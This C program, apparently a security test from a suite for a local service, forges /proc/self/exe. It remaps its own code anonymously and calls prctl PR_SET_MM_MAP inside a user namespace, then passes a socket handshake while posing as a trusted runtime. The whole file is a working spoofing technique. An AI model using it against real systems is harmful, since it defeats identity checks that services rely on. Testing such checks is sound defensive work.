// Makes /proc/self/exe name the genuine runtime while this code runs, and asks for evidence.
// Power: an unprivileged user who may create user namespaces.
//   forged_link SOCKET RUNTIME
// How: PR_SET_MM_MAP changes the link for whoever has CAP_CHECKPOINT_RESTORE in its user namespace, when nothing of the
// old executable is mapped any more; so this program first replaces its own mappings by anonymous copies.
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/prctl.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/prctl.h>

#include "ask.h"

static void move_off_the_file(const char* own_path) {
  char text[8192];
  const int maps = open("/proc/self/maps", O_RDONLY);
  ssize_t size = 0;
  for (ssize_t got; (got = read(maps, text + size, sizeof(text) - 1 - (size_t)size)) > 0;) size += got;
  close(maps);
  text[size] = 0;
  for (char* line = strtok(text, "\n"); line != NULL; line = strtok(NULL, "\n")) {
    unsigned long start, end;
    char permissions[5];
    if (strstr(line, own_path) == NULL || sscanf(line, "%lx-%lx %4s", &start, &end, permissions) != 3) continue;
    const size_t length = end - start;
    void* const copy = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (copy == MAP_FAILED) die("mmap");
    memcpy(copy, (void*)start, length);
    const int protection =
        PROT_READ | (permissions[1] == 'w' ? PROT_WRITE : 0) | (permissions[2] == 'x' ? PROT_EXEC : 0);
    if (mprotect(copy, length, protection) != 0) die("mprotect");
    if (mremap(copy, length, length, MREMAP_MAYMOVE | MREMAP_FIXED, (void*)start) == MAP_FAILED) die("mremap");
  }
}

static unsigned long long field(const char* rest, int number) {
  // `rest` starts at field 3 of /proc/self/stat.
  for (int i = 3; i < number; ++i) rest = strchr(rest, ' ') + 1;
  return strtoull(rest, NULL, 10);
}

static void forge_link(int runtime) {
  char text[2048];
  const int stat = open("/proc/self/stat", O_RDONLY);
  const ssize_t size = read(stat, text, sizeof(text) - 1);
  close(stat);
  text[size > 0 ? size : 0] = 0;
  const char* const rest = strrchr(text, ')') + 2;
  struct prctl_mm_map map = {0};
  map.start_code = field(rest, 26);
  map.end_code = field(rest, 27);
  map.start_stack = field(rest, 28);
  map.start_data = field(rest, 45);
  map.end_data = field(rest, 46);
  map.start_brk = field(rest, 47);
  map.brk = (unsigned long long)sbrk(0);
  map.arg_start = field(rest, 48);
  map.arg_end = field(rest, 49);
  map.env_start = field(rest, 50);
  map.env_end = field(rest, 51);
  map.exe_fd = (unsigned)runtime;
  if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof(map), 0) != 0) die("PR_SET_MM_MAP");
}

int main(int argc, char** argv) {
  char own_path[4096], link[4096];
  if (argc != 3) return 2;
  const ssize_t size = readlink("/proc/self/exe", own_path, sizeof(own_path) - 1);
  own_path[size > 0 ? size : 0] = 0;
  const int runtime = open(argv[2], O_RDONLY);
  if (runtime < 0) die(argv[2]);
  if (unshare(CLONE_NEWUSER) != 0) die("NO-USER-NAMESPACES unshare");
  move_off_the_file(own_path);
  forge_link(runtime);
  const ssize_t link_size = readlink("/proc/self/exe", link, sizeof(link) - 1);
  link[link_size > 0 ? link_size : 0] = 0;
  if (strcmp(link, argv[2]) != 0) die("the link was not forged");
  const int fd = las_connect(argv[1]);
  las_say_hello(fd);
  las_answer_and_finish(fd);
}
